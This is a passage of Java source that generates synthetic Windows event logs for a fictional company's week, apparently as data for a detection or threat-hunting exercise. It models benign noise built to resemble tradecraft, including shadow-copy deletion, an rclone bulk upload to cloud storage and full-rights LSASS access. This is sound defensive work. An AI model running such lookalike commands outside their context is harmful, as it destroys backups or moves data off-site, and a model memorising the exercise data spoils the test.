                        .with("UserAccountControl", "%%2080 %%2082 %%2084"));
    }

    /** Event 7045. */
    void installService(Instant at, Host host, String name, String imagePath, String startType) {
        add(
                at,
                log(at, 7045, "System", "Service Control Manager", host)
                        .with("ServiceName", name)
                        .with("ImagePath", imagePath)
                        .with("ServiceType", imagePath.endsWith(".sys") ? "kernel mode driver" : "user mode service")
                        .with("StartType", startType)
                        .with("AccountName", imagePath.endsWith(".sys") ? "" : "LocalSystem"));
    }

    /** Event 4104. */
    void runScript(Instant at, Run powershell, String text) {
        add(
                at,
                log(
                                at,
                                4104,
                                "Microsoft-Windows-PowerShell/Operational",
                                "Microsoft-Windows-PowerShell",
                                powershell.host())
                        .with("MessageNumber", "1")
                        .with("MessageTotal", "1")
                        .with("ScriptBlockText", text)
                        .with("ScriptBlockId", scriptBlockId())
                        .with("Path", ""));
    }

    private String scriptBlockId() {
        return dice.hex(8) + "-" + dice.hex(4) + "-4" + dice.hex(3) + "-9" + dice.hex(3) + "-" + dice.hex(12);
    }

    private Fields sysmon(Instant at, int eventId, Run run) {
        Fields fields =
                sysmonHead(at, run.host()).with("ProcessGuid", run.guid()).with("ProcessId", String.valueOf(run.id()));
        return sysmonKind(fields, eventId).with("Image", run.image());
    }

    /** Events about two processes name neither of them "Image". */
    private Fields sysmonPair(Instant at, int eventId, Host host) {
        return sysmonKind(sysmonHead(at, host), eventId);
    }

    private static Fields sysmonHead(Instant at, Host host) {
        return new Fields()
                .with("@timestamp", LOG_TIME.format(at))
                .with("UtcTime", SYSMON_TIME.format(at))
                .with("Hostname", host.fullName());
    }

    private static Fields sysmonKind(Fields fields, int eventId) {
        return kind(fields, eventId, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
                .with("RuleName", "-");
    }

    private Fields security(Instant at, int eventId, Host host) {
        return log(at, eventId, "Security", "Microsoft-Windows-Security-Auditing", host);
    }

    private static Fields log(Instant at, int eventId, String channel, String source, Host host) {
        Fields head = new Fields().with("@timestamp", LOG_TIME.format(at)).with("Hostname", host.fullName());
        return kind(head, eventId, channel, source);
    }

    private static Fields kind(Fields fields, int eventId, String channel, String source) {
        return fields.with("EventID", eventId).with("Channel", channel).with("SourceName", source);
    }

    private static Fields subject(Fields fields, Account account, Host host) {
        return fields.with("SubjectUserSid", account.sid())
                .with("SubjectUserName", account.isBuiltIn() ? host.name() + "$" : account.shortName())
                .with("SubjectDomainName", "NORTHMERE")
                .with("SubjectLogonId", account.logonId());
    }

    private static void version(Fields fields, Program program) {
        fields.with("FileVersion", program.version())
                .with("Description", program.description())
                .with("Product", program.product())
                .with("Company", program.company())
                .with("OriginalFileName", program.originalName())
                .with("Hashes", program.hashes());
    }

    String guid(Host host, Instant at) {
        int count = started.merge(host.name(), 1, Integer::sum);
        long second = at.getEpochSecond();
        return String.format(
                "{%s-%04x-%04x-%04x-000000000a00}",
                host.guidPrefix(), second & 0xffff, second >> 16 & 0xffff, count & 0xffff);
    }

    private void add(Instant at, Fields fields) {
        if (at.isBefore(Week.at(Week.FIRST, 0, 0)) || !at.isBefore(Week.at(Week.FIRST.plusDays(7), 0, 0))) {
            return;
        }
        events.add(new Event(at, fields.json()));
    }

    void writeTo(Path file) throws IOException {
        events.sort(Comparator.comparing(Event::at));
        try (OutputStream out = new BestGzip(Files.newOutputStream(file))) {
            events.forEach(event -> write(out, event.line()));
        }
        System.err.println(events.size() + " events, " + Files.size(file) + " bytes");
    }

    private static void write(OutputStream out, String line) {
        try {
            out.write((line + "\n").getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Java's gzip stream writes no time stamp, so the same lines give the same bytes. */
    private static final class BestGzip extends GZIPOutputStream {
        BestGzip(OutputStream out) throws IOException {
            super(out, 1 << 16);
            def.setLevel(Deflater.BEST_COMPRESSION);
        }
    }
}

/** Name resolution as the estate sees it. */
final class Internet {
    private Internet() {}

    static String addressOf(String name) {
        int hash = Math.floorMod(name.hashCode(), 60_000);
        return networkOf(name) + "." + (hash / 250) + "." + (hash % 250 + 2);
    }

    private static String networkOf(String name) {
        if (name.contains("microsoft") || name.contains("office") || name.contains("live.com")) {
            return "20.190";
        }
        return name.contains("google") ? "142.250" : "104.18";
    }

    static void visit(Recorder recorder, Instant at, Run run, String name) {
        recorder.resolve(at, run, name, addressOf(name));
        recorder.connect(at.plusMillis(34), run, addressOf(name), 443);
    }
}

/** One part of what happens in the week. */
abstract class Story {
    final Estate estate;
    final Recorder recorder;
    final Dice dice;

    Story(String name, Estate estate, Recorder recorder) {
        this.estate = estate;
        this.recorder = recorder;
        this.dice = new Dice(name);
    }

    abstract void record();

    final Host host(String name) {
        return estate.host(name);
    }

    final Run resident(Host host, String role) {
        return estate.resident(host, role);
    }

    /** A moment of November 2026, such as {@code 17T08:42:30.118}. */
    static Instant november(String dayAndTime) {
        return Week.november(dayAndTime);
    }
}

/** What Windows does by itself on every computer, day and night. */
final class Background extends Story {
    private static final List<String> SERVICES = Words.of("""
        settings-win.data.microsoft.com v10.events.data.microsoft.com ctldl.windowsupdate.com
        login.microsoftonline.com wdcp.microsoft.com client.wns.windows.com time.windows.com manage.microsoft.com
        slscr.update.microsoft.com ocsp.digicert.com
        """);

    /** The process that starts a job, the account it runs under, its program and its command line. */
    private static final List<String[]> JOBS =
            """
            Schedule|system|taskhostw.exe|taskhostw.exe
            Schedule|system|taskhostw.exe|taskhostw.exe Install $(Arg0)
            Schedule|system|GoogleUpdate.exe|"{path}" /ua /installsource scheduler
            Schedule|system|MicrosoftEdgeUpdate.exe|"{path}" /ua /installsource scheduler
            Schedule|system|OneDriveStandaloneUpdater.exe|"{path}" /reporting
            Schedule|system|CompatTelRunner.exe|C:\\Windows\\system32\\compattelrunner.exe -maintenance
            Schedule|system|sdxhelper.exe|"{path}" /onlogon
            Schedule|system|sc.exe|C:\\Windows\\system32\\sc.exe start wuauserv
            Schedule|system|rundll32.exe|C:\\Windows\\system32\\rundll32.exe Startupscan.dll,SusRunTask
            Schedule|system|rundll32.exe|C:\\Windows\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations
            Dcom|owner|RuntimeBroker.exe|{path} -Embedding
            Dcom|owner|dllhost.exe|C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}
            Dcom|network|WmiPrvSE.exe|C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding
            Dcom|owner|backgroundTaskHost.exe|"{path}" -ServerName:App.AppXemn3t55segp7q92mwd35v2a5rk5mvwyz.mca
            Indexer|system|SearchProtocolHost.exe|"{path}" Global\\UsGthrFltPipeMssGthrPipe{n}_
            Defender|system|MpCmdRun.exe|"{path}" SignatureUpdate -ScheduleJob -RestrictPrivileges
            """.lines().map(line -> line.split("\\|")).toList();

    private static final List<String[]> SERVER_JOBS = JOBS.stream()
            .filter(job -> !List.of("GoogleUpdate.exe", "OneDriveStandaloneUpdater.exe", "sdxhelper.exe")
                    .contains(job[2]))
            .toList();

    /** The process that opens LSASS, the mask, and where the call comes from. */
    private static final List<String[]> LSASS_READERS =
            """
            Winmgmt|0x1410|C:\\Windows\\system32\\wbem\\cimwin32.dll+13a2c
            Ccm|0x1410|C:\\Windows\\CCM\\CcmUtilLib.dll+a3c1
            Dcom|0x1000|C:\\Windows\\System32\\lsm.dll+f2e1
            Defender|0x1000|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\mpengine.dll+5c10e
            Defender|0x101000|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\mpengine.dll+5c10e
            """.lines().map(line -> line.split("\\|")).toList();

    private static final List<String> KEYS = List.of(
            "HKLM\\SOFTWARE\\Microsoft\\Windows"
                + " NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{{hex}-51C1-4B0A-9C1F-20E5B3F7D1A2}\\DynamicInfo",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{b0f1c3a2-7d55-4c0e-a1d3-6f2f98e4c711}\\LeaseObtainedTime",
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto"
                    + " Update\\LastOnlineScanTimeForAppCategory",
            "HKLM\\SOFTWARE\\Microsoft\\CCM\\StateSystem\\LastSent",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18\\SequenceNumber");
    private static final List<String> FILES = List.of(
            "C:\\Windows\\Prefetch\\SVCHOST.EXE-{hex}.pf",
            "C:\\Windows\\ServiceState\\EventLog\\Data\\lastalive1.dat",
            "C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb.chk",
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-{hex}.bin.80",
            "C:\\Windows\\Temp\\MpCmdRun.log",
            "C:\\Windows\\CCM\\Logs\\PolicyAgent-{n}.log",
            "C:\\Windows\\SoftwareDistribution\\Download\\{hex}\\update.cab");

    Background(Estate estate, Recorder recorder) {
        super("background", estate, recorder);
    }

    @Override
    void record() {
        Week.days().forEach(day -> estate.all().forEach(host -> recordDay(host, day)));
        estate.workstations().stream().limit(11).forEach(this::startOnMonday);
    }

    private void recordDay(Host host, LocalDate day) {
        recordBurst(host, dice.during(day, 0, 8));
        recordBurst(host, dice.during(day, 8, 16));
        recordBurst(host, dice.during(day, 16, 24));
        if (dice.chance(6)) {
            watchConsole(host, dice.during(day, 0, 24));
        }
    }

    /** Windows' own work comes in bursts: a task runs, and services stir around it. */
    private void recordBurst(Host host, Instant at) {
        maybe(45, () -> recorder.logOn(at.minusMillis(20), host, Account.SYSTEM, 5, "Negotiate", "-"));
        maybe(75, () -> runTask(host, at));
        maybe(95, () -> callService(host, soonAfter(at)));
        maybe(45, () -> callService(host, soonAfter(at)));
        maybe(80, () -> lookAtLsass(host, soonAfter(at)));
        maybe(20, () -> lookAtOthers(host, soonAfter(at)));
        maybe(80, () -> writeRegistry(host, soonAfter(at)));
        maybe(65, () -> writeFile(host, soonAfter(at)));
        maybe(20, () -> openPipe(host, soonAfter(at)));
    }

    private void maybe(int percent, Runnable action) {
        if (dice.chance(percent)) {
            action.run();
        }
    }

    private Instant soonAfter(Instant at) {
        return dice.after(at, 100, 9_000);
    }

    private void runTask(Host host, Instant at) {
        Run run = startJob(host, at, dice.pick(host.server() ? SERVER_JOBS : JOBS));
        if (dice.chance(12)) {
            String library = dice.pick(List.of("amsi.dll", "winhttp.dll", "taskschd.dll", "mscoree.dll", "ntdll.dll"));
            recorder.load(dice.after(at, 10, 90), run, Programs.named(library));
        }
        if (dice.chance(60)) {
            recorder.stop(dice.after(at, 900, 9_000), run);
        }
    }

    private Run startJob(Host host, Instant at, String[] job) {
        Account account =
                switch (job[1]) {
                    case "owner" -> host.owner();
                    case "network" -> Account.NETWORK_SERVICE;
                    default -> Account.SYSTEM;
                };
        Program program = Programs.named(job[2]);
        String commandLine = dice.fill(job[3].replace("{path}", program.path()), account);
        return recorder.startAs(at, resident(host, job[0]), account, program, commandLine);
    }

    private void callService(Host host, Instant at) {
        Run run = resident(host, dice.pick(List.of("Dnscache", "Schedule", "Defender", "Ccm")));
        Internet.visit(recorder, at, run, dice.pick(SERVICES));
    }

    /** The accesses to LSASS that every Windows computer shows, with their usual masks. */
    private void lookAtLsass(Host host, Instant at) {
        String[] reader = dice.pick(LSASS_READERS);
        recorder.open(at, resident(host, reader[0]), resident(host, "lsass"), reader[1], Traces.OPENING + reader[2]);
    }

    private void lookAtOthers(Host host, Instant at) {
        Run source = resident(host, dice.pick(List.of("Dcom", "Schedule", "Defender")));
        Run target = resident(host, dice.pick(List.of("explorer", "Indexer", "Ccm")));
        recorder.open(
                at,
                source,
                target,
                dice.pick(List.of("0x1000", "0x1478", "0x2000", "0x3000")),
                Traces.OPENING + "C:\\Windows\\system32\\sysmain.dll+60c1");
    }

    private void writeRegistry(Host host, Instant at) {
        Run run = resident(host, dice.pick(List.of("Schedule", "Dnscache", "Defender", "Ccm")));
        String key = dice.fill(dice.pick(KEYS), host.owner());
        if (dice.chance(20)) {
            recorder.createKey(at, run, key.substring(0, key.lastIndexOf('\\')));
        } else {
            recorder.setValue(
                    at, run, key, dice.pick(List.of("Binary Data", "DWORD (0x00000001)", "DWORD (0x6737f1c0)")));
        }
    }

    private void writeFile(Host host, Instant at) {
        Run run = resident(host, dice.pick(List.of("Schedule", "Defender", "Ccm")));
        recorder.createFile(at, run, dice.fill(dice.pick(FILES), host.owner()));
    }

    private void openPipe(Host host, Instant at) {
        Run run = resident(host, dice.pick(List.of("Dcom", "Defender", "Ccm")));
        String name = dice.pick(List.of(
                "\\wkssvc", "\\srvsvc", "\\lsass", "\\MsFteWds", "\\mojo." + dice.fill("{n}.{n}", host.owner())));
        recorder.connectPipe(at, run, name);
    }

    /** The one kind of remote thread that Windows starts for itself: console control handlers, from csrss. */
    private void watchConsole(Host host, Instant at) {
        Run console = recorder.start(
                at,
                resident(host, "Schedule"),
                "conhost.exe",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
        recorder.inject(
                at.plusMillis(640),
                resident(host, "csrss"),
                console,
                "C:\\Windows\\System32\\KERNELBASE.dll",
                "CtrlRoutine");
    }

    /** At start-up, wininit and csrss open LSASS with all rights: the same mask as a dump, from the right parents. */
    private void startOnMonday(Host host) {
        Instant at = dice.during(LocalDate.of(2026, 11, 16), 6, 8);
        Run lsass = resident(host, "lsass");
        recorder.open(
                at,
                resident(host, "wininit"),
                lsass,
                "0x1FFFFF",
                Traces.OPENING + "C:\\Windows\\system32\\wininit.exe+8f0b");
        recorder.open(
                at.plusMillis(12),
                resident(host, "csrss"),
                lsass,
                "0x1FFFFF",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9e6b4|C:\\Windows\\system32\\basesrv.DLL+2f1a");
    }
}

/** A program that people use, and what it leaves behind. Semicolons part the choices. */
record Habit(String program, String commandLine, String names, String files, String keys) {
    static List<String> choices(String text) {
        return List.of(text.split(";"));
    }
}

/** What people do at their workstations on working days. */
final class OfficeWork extends Story {
    private static final String SITES =
            "www.google.com;fonts.googleapis.com;www.linkedin.com;en.wikipedia.org;github.com;"
                + "cdn.jsdelivr.net;www.bbc.co.uk;stackoverflow.com;www.youtube.com;maps.googleapis.com;www.dhl.com;"
                + "www.parcelforce.com;cdn.cookielaw.org;static.cloudflareinsights.com;js.stripe.com;www.googletagmanager.com;"
                + "secure.quantserve.com;cdn.segment.com;www.reuters.com;portal.northmere.example";
    private static final List<Habit> HABITS = List.of(
            new Habit(
                    "chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --profile-directory=Default",
                    SITES,
                    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{hex};"
                            + "{home}\\Downloads\\{topic}_{n}.pdf;{home}\\Downloads\\Unconfirmed {n}.crdownload",
                    "HKU\\{sid}\\Software\\Google\\Chrome\\BLBeacon\\state"),
            new Habit(
                    "chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-GB"
                            + " --renderer-client-id={n}",
                    SITES,
                    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{hex}",
                    "HKU\\{sid}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\extensions.settings"),
            new Habit(
                    "msedge.exe",
                    "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument"
                            + " https://portal.northmere.example/",
                    SITES + ";www.bing.com;assets.msn.com;edge.microsoft.com",
                    "{home}\\AppData\\Local\\Microsoft\\Edge\\User"
                            + " Data\\Default\\Cache\\Cache_Data\\f_{hex};{home}\\Downloads\\{topic} {n}.xlsx",
                    "HKU\\{sid}\\Software\\Microsoft\\Edge\\BLBeacon\\state"),
            new Habit(
                    "OUTLOOK.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
                    "outlook.office365.com;autodiscover-s.outlook.com;login.microsoftonline.com;substrate.office.com",
                    "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex}\\{topic} {n}.docx;"
                        + "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex}\\image001.png",
                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Outlook\\Perf\\LastStart"),
            new Habit(
                    "WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n"
                            + " \"{home}\\Documents\\{topic} {n}.docx\" /o \"\"",
                    "officeclient.microsoft.com;nexusrules.officeapps.live.com;ecs.office.com",
                    "{home}\\Documents\\~${topic}"
                            + " {n}.docx;{home}\\AppData\\Roaming\\Microsoft\\Templates\\~$Normal.dotm",
                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document {n}\\Position"),
            new Habit(
                    "EXCEL.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\""
                            + " \"\\\\NM-FS01\\Finance\\{topic} {n}.xlsx\"",
                    "officeclient.microsoft.com;ecs.office.com;roaming.officeapps.live.com",
                    "{home}\\AppData\\Local\\Microsoft\\Office\\UnsavedFiles\\{topic}{n}.xlsb;{home}\\Documents\\{topic}"
                        + " {n}.xlsx",
                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Excel\\File MRU\\Item 1"),
            new Habit(
                    "ms-teams.exe",
                    "\"C:\\Program Files\\WindowsApps\\MSTeams_24277.3507.3205.5228_x64__8wekyb3d8bbwe\\ms-teams.exe\""
                            + " msteams:system-initiated",
                    "teams.microsoft.com;statics.teams.cdn.office.net;presence.teams.microsoft.com",
                    "{home}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Logs\\MSTeams_{n}.log",
                    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\PushNotifications\\Backup\\MSTeams\\appType"),
            new Habit(
                    "AcroRd32.exe",
                    "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\""
                            + " \"{home}\\Downloads\\{topic}_{n}.pdf\"",
                    "acroipm2.adobe.com;geo2.adobe.com;armmf.adobe.com",
                    "{home}\\AppData\\Local\\Adobe\\Acrobat\\DC\\SharedDataEvents-journal;{home}\\AppData\\Local\\Temp\\acrobat_sbx\\A9R{hex}.tmp",
                    "HKU\\{sid}\\Software\\Adobe\\Adobe Acrobat\\DC\\AVGeneral\\cRecentFiles\\c1\\tDIText"),
            new Habit(
                    "notepad.exe",
                    "\"C:\\Windows\\system32\\NOTEPAD.EXE\" {home}\\Desktop\\notes.txt",
                    "",
                    "{home}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{topic}.lnk",
                    "HKU\\{sid}\\Software\\Microsoft\\Notepad\\iWindowPosX"),
            new Habit(
                    "quill.exe",
                    "\"C:\\Program Files\\Quill Notes\\quill.exe\"",
                    "sync.quillnotes.example;api.quillnotes.example",
                    "{home}\\AppData\\Roaming\\Quill Notes\\notes-{n}.db-journal",
                    "HKU\\{sid}\\Software\\Quill Notes\\LastSync"));

    OfficeWork(Estate estate, Recorder recorder) {
        super("office", estate, recorder);
    }

    @Override
    void record() {
        Week.workingDays().forEach(day -> estate.workstations().forEach(host -> work(host, day)));
        Week.workingDays().forEach(day -> estate.workstations().forEach(host -> unlock(host, day)));
    }

    private void work(Host host, LocalDate day) {
        Instant arrival = dice.during(day, 7, 9);
        if (dice.chance(12)) {
            recorder.failLogOn(arrival.minusMillis(21_300), host, host.owner(), 2, "127.0.0.1");
        }
        recorder.logOn(arrival, host, host.owner(), 2, "Negotiate", "127.0.0.1");
        Run oneDrive = recorder.start(
                dice.after(arrival, 9_000, 40_000),
                resident(host, "explorer"),
                "OneDrive.exe",
                "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background");
        recorder.createFile(
                dice.after(arrival, 50_000, 400_000),
                oneDrive,
                dice.fill("{home}\\OneDrive - Northmere\\{topic} {n}.docx", host.owner()));
        workFor(host, dice.during(day, 9, 12));
        workFor(host, dice.during(day, 13, 17));
    }

    private void workFor(Host host, Instant at) {
        for (int i = dice.between(2, 3); i > 0; i--) {
            use(dice.pick(HABITS), host, dice.after(at, 0, 90_000));
        }
    }

    private void unlock(Host host, LocalDate day) {
        recorder.logOn(dice.during(day, 12, 14), host, host.owner(), 7, "Negotiate", "127.0.0.1");
    }

    private void use(Habit habit, Host host, Instant at) {
        Account owner = host.owner();
        Run run = recorder.start(
                at, resident(host, "explorer"), Programs.named(habit.program()), dice.fill(habit.commandLine(), owner));
        visitSites(habit, run, at);
        leaveTraces(habit, run, at);
        startChild(run, at);
        if (dice.chance(70)) {
            recorder.stop(dice.after(at, 25_000, 60_000), run);
        }
    }

    private void visitSites(Habit habit, Run run, Instant at) {
        if (habit.names().isEmpty()) {
            return;
        }
        for (int i = dice.between(1, 3); i > 0; i--) {
            Internet.visit(recorder, dice.after(at, 300, 8_000), run, dice.pick(Habit.choices(habit.names())));
        }
    }

    private void leaveTraces(Habit habit, Run run, Instant at) {
        Account owner = run.account();
        if (dice.chance(60)) {
            recorder.createFile(
                    dice.after(at, 800, 9_000), run, dice.fill(dice.pick(Habit.choices(habit.files())), owner));
        }
        if (dice.chance(40)) {
            recorder.setValue(
                    dice.after(at, 500, 9_000),
                    run,
                    dice.fill(habit.keys(), owner),
                    dice.pick(List.of("Binary Data", "DWORD (0x00000002)")));
        }
        if (dice.chance(10)) {
            recorder.load(
                    dice.after(at, 20, 300),
                    run,
                    Programs.named(dice.pick(List.of("amsi.dll", "winhttp.dll", "dbghelp.dll", "ntdll.dll"))));
        }
        if (dice.chance(15)) {
            recorder.createPipe(dice.after(at, 50, 900), run, dice.fill("\\mojo.{n}.{n}.{n}", owner));
        }
    }

    /** Office opens browsers, viewers and the print host all day long. */
    private void startChild(Run run, Instant at) {
        if (!run.program().product().equals("Microsoft Office") || !dice.chance(30)) {
            return;
        }
        Instant later = dice.after(at, 2_000, 20_000);
        switch (dice.between(0, 2)) {
            case 0 -> recorder.start(later, run, "splwow64.exe", "C:\\Windows\\splwow64.exe 12288");
            case 1 ->
                recorder.start(
                        later,
                        run,
                        "chrome.exe",
                        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --single-argument"
                                + " https://www.dhl.com/track");
            default ->
                recorder.start(
                        later,
                        run,
                        "AcroRd32.exe",
                        dice.fill(
                                "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\""
                                    + " \"{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex}\\{topic}"
                                    + " {n}.pdf\"",
                                run.account()));
        }
    }
}

/** Domain controllers, file server, application server and the nightly backup. */
final class ServerWork extends Story {

    ServerWork(Estate estate, Recorder recorder) {
        super("servers", estate, recorder);
    }

    @Override
    void record() {
        Week.days().forEach(this::recordNight);
        Week.workingDays().forEach(this::recordDay);
    }

    private void recordDay(LocalDate day) {
        for (Host workstation : estate.workstations()) {
            authenticate(workstation, dice.during(day, 8, 17));
            useShares(workstation, dice.during(day, 8, 17));
        }
        IntStream.range(0, 6).forEach(i -> compilePage(dice.during(day, 7, 18)));
        IntStream.range(0, 3).forEach(i -> mistypePassword(dice.during(day, 8, 17)));
    }

    private void authenticate(Host workstation, Instant at) {
        Host controller = host(dice.pick(List.of("NM-DC01", "NM-DC02")));
        recorder.logOn(at, controller, workstation.owner(), 3, "Kerberos", workstation.address());
        recorder.connect(
                at.minusMillis(40), resident(workstation, "lsass"), controller.address(), 88, controller.fullName());
    }

    private void useShares(Host workstation, Instant at) {
        Host fileServer = host("NM-FS01");
        recorder.connect(at, resident(workstation, "System"), fileServer.address(), 445, fileServer.fullName());
        String protocol = dice.chance(5) ? "NTLM" : "Kerberos";
        recorder.logOn(at.plusMillis(35), fileServer, workstation.owner(), 3, protocol, workstation.address());
        recorder.connectPipe(at.plusMillis(80), resident(fileServer, "System"), "\\srvsvc");
        recorder.createFile(
                at.plusMillis(4_210),
                resident(fileServer, "System"),
                dice.fill("E:\\Shares\\Sales\\{topic} {n}.xlsx", workstation.owner()));
    }

    private void mistypePassword(Instant at) {
        Host workstation = dice.pick(estate.workstations());
        recorder.failLogOn(at, host("NM-DC01"), workstation.owner(), 3, workstation.address());
    }

    private void compilePage(Instant at) {
        Host host = host("NM-APP01");
        Run pool = recorder.startAs(
                at,
                resident(host, "services"),
                Account.NETWORK_SERVICE,
                "w3wp.exe",
                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"OrderPortal\" -v \"v4.0\" -l \"webengine4.dll\"");
        String folder = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\orders\\";
        String source = folder + dice.hex(8) + ".cmdline";
        Run compiler = recorder.start(
                at.plusMillis(900),
                pool,
                "csc.exe",
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"" + source
                        + "\"");
        recorder.createFile(at.plusMillis(880), pool, source);
        recorder.start(
                at.plusMillis(1_500),
                compiler,
                "cvtres.exe",
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86"
                        + " \"/OUT:"
                        + folder + dice.hex(6) + ".tmp\"");
        recorder.stop(at.plusMillis(2_100), compiler);
    }

    private void recordNight(LocalDate day) {
        backUp(Week.at(day, 22, 0).plusMillis(dice.between(1_000, 50_000)));
        mirrorShares(Week.at(day, 21, 15).plusMillis(dice.between(1_000, 50_000)));
        listCopies(host("NM-FS01"), Week.at(day, 6, 30).plusMillis(dice.between(1_000, 50_000)));
    }

    /** Creates a shadow copy, expires the oldest one and sends the backup to the company's own bucket with rclone. */
    private void backUp(Instant at) {
        Host host = host("NM-BKP01");
        Run agent = recorder.start(
                at,
                resident(host, "services"),
                "HoldfastAgent.exe",
                "\"C:\\Program Files\\Holdfast Backup\\HoldfastAgent.exe\" --job nightly");
        String vssadmin = "vssadmin.exe";
        recorder.start(at.plusMillis(2_000), agent, vssadmin, "vssadmin.exe list writers");
        recorder.start(at.plusMillis(9_000), agent, vssadmin, "vssadmin.exe create shadow /for=D:");
        recorder.start(at.plusMillis(31_000), agent, vssadmin, "vssadmin.exe list shadows /for=D:");
        recorder.start(at.plusMillis(42_000), agent, vssadmin, "vssadmin.exe delete shadows /for=D: /oldest /quiet");
        Account service = Account.administrator("svc-backup", 1190);
        Run rclone = recorder.startAs(
                at.plusSeconds(1_900),
                agent,
                service,
                "rclone.exe",
                "\"C:\\Program Files\\r"
                    + "clone\\r"
                    + "clone.exe\" sync D:\\Backups nm-s3:northmere-backup --transfers 8 --config \"C:\\ProgramData\\r"
                    + "clone\\r"
                    + "clone.conf\" --log-file D:\\Logs\\r"
                    + "clone.log");
        String bucket = "northmere-backup.s3.eu-north-1.amazonaws.com";
        for (int i = 0; i < 4; i++) {
            Internet.visit(recorder, at.plusSeconds(1_903 + i * 600L), rclone, bucket);
        }
        recorder.createFile(at.plusSeconds(1_902), rclone, "D:\\Logs\\rclone.log");
        recorder.stop(at.plusSeconds(4_400), rclone);
    }

    private void mirrorShares(Instant at) {
        Host host = host("NM-FS01");
        Run shell = recorder.start(
                at, resident(host, "Schedule"), "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c C:\\Scripts\\mirror.cmd");
        Run copy = recorder.start(
                at.plusMillis(300),
                shell,
                "robocopy.exe",
                "robocopy E:\\Shares \\\\NM-BKP01\\Mirror /MIR /R:1 /W:1 /LOG:C:\\Scripts\\mirror.log");
        recorder.connect(
                at.plusMillis(900),
                resident(host, "System"),
                host("NM-BKP01").address(),
                445,
                "NM-BKP01.corp.northmere.example");
        recorder.stop(at.plusSeconds(1_260), copy);
    }

    private void listCopies(Host host, Instant at) {
        Run shell = recorder.start(
                at,
                resident(host, "Schedule"),
                "cmd.exe",
                "C:\\Windows\\system32\\cmd.exe /c C:\\Scripts\\morning-check.cmd");
        recorder.start(at.plusMillis(200), shell, "vssadmin.exe", "vssadmin list shadows");
    }
}

/** What administrators, the help desk and management tools do; much of it looks like tradecraft. */
final class Administration extends Story {
    private static final List<String> MANAGEMENT_SCRIPTS = List.of(
            "$ErrorActionPreference='Stop';Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object"
                    + " Caption,BuildNumber",
            "Get-MpComputerStatus | Select-Object AntivirusEnabled,RealTimeProtectionEnabled,NISEnabled |"
                    + " ConvertTo-Json",
            "if ((Get-BitLockerVolume -MountPoint C:).ProtectionStatus -eq 'On') { exit 0 } else { exit 1 }",
            "Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select-Object"
                    + " DisplayName,DisplayVersion",
            "Set-MpPreference -SignatureUpdateInterval 4 -CheckForSignaturesBeforeRunningScan $true");

    private final Account hollis = Account.administrator("adm-rhollis", 1151);
    private final Account okafor = Account.administrator("adm-tokafor", 1152);
    private final Account helpDesk = Account.administrator("hd-jpell", 1153);

    Administration(Estate estate, Recorder recorder) {
        super("administration", estate, recorder);
    }

    @Override
    void record() {
        Week.days().forEach(this::manage);
        Week.workingDays().forEach(this::support);
